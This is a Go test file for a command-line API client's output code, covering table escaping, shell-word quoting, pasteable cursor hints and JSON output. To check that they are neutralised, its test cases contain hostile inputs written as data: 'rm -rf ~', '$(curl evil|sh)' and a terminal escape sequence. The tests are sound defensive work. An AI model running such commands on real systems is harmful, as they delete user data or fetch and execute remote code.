package main

// Tests of output.go: tables, shell words and --output json.

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A table cell's control characters, tab and newline are escaped before
// the columns are measured: a value cannot add a column or forge a line,
// and the columns stay aligned.
func TestTableRowEscapesCells(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	tb := newTable(&b)
	tb.row("Name", "Grace\tHopper")
	tb.row("Risk score", "82\nRisk score  0")
	tb.row("Org", "\x1b]0;pwned\x07")
	require.NoError(t, tb.flush())
	want := "Name        Grace\\x09Hopper\n" +
		"Risk score  82\\x0aRisk score  0\n" +
		"Org         \\x1b]0;pwned\\x07\n"
	assert.Equal(t, want, b.String(), "table")
}

func TestShellWord(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"cHJveGllczoxMjM0", "cHJveGllczoxMjM0"},
		{"a-b_c.d,e:f=g+h/i@j%k", "a-b_c.d,e:f=g+h/i@j%k"},
		{"", "''"},
		{"x; rm -rf ~", "'x; rm -rf ~'"},
		{"$(curl evil|sh)", "'$(curl evil|sh)'"},
		{"it's", `'it'\''s'`},
		{"~root", "'~root'"},
		{"a\x1bb", "'a\x1bb'"}, // the safeWriter escapes the control
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, shellWord(tt.in), "shellWord(%q)", tt.in)
	}
}

// A server's cursor is printed as one shell word in the "more:" hint, so
// that pasting the hint runs nothing else.
func TestExportsListCursorHintQuoted(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	r := call{args: []string{"--base-url", hostileFront(t, srv), "exports", "list", "proxies", "--limit", "2"}, env: keyEnv(srv)}.run(t)
	requireCode(t, r, 0)
	ls := lines(r.stdout)
	require.NotEmpty(t, ls, "stdout")
	last := ls[len(ls)-1]
	assert.True(t, strings.HasPrefix(last, "more: --cursor '") && strings.HasSuffix(last, "' (or --all)"), "hint %q: the cursor is not single-quoted", last)
}

// Every other command's --output json is one JSON document (NDJSON for
// exports list --all).
func TestJSONOtherCommands(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	dir := t.TempDir()
	tests := []struct {
		name  string
		args  []string
		docs  int
		field string // a member the (first) document must have
	}{
		{"account", []string{"account"}, 1, "lookup_quota"},
		{"health", []string{"health"}, 1, "status"},
		{"lookup domain", []string{"lookup", "domain", "example.com", "--limit", "2"}, 1, "recent_events"},
		{"exports list", []string{"exports", "list", "proxies", "--limit", "3"}, 1, "next_cursor"},
		{"exports list --all", []string{"exports", "list", "proxies", "--all"}, 17, "checksum"},
		{"exports meta", []string{"exports", "meta", "proxies", "latest"}, 1, "checksum"},
		{"exports download", []string{"exports", "download", "proxies", "latest", "--out", filepath.Join(dir, "f.parquet"), "--verify"}, 1, "verified"},
		{"stream", []string{"stream", "proxies", "--max-events", "2"}, 2, "ip"},
	}
	// Not parallel: the commands share the fake.
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append([]string{"-o", "json"}, tt.args...)
			r := runSrv(t, srv, args...)
			requireCode(t, r, 0, args...)
			ls := lines(r.stdout)
			require.Len(t, ls, tt.docs, "lines:\n%s", r.stdout)
			for i, l := range ls {
				var doc map[string]any
				if !assert.NoError(t, json.Unmarshal([]byte(l), &doc), "line %d is not a JSON object", i+1) {
					continue
				}
				if i == 0 {
					assert.Contains(t, doc, tt.field, "the first document: %s", l)
				}
			}
		})
	}
	_, err := os.Stat(filepath.Join(dir, "f.parquet"))
	assert.NoError(t, err, "the download's file")
}
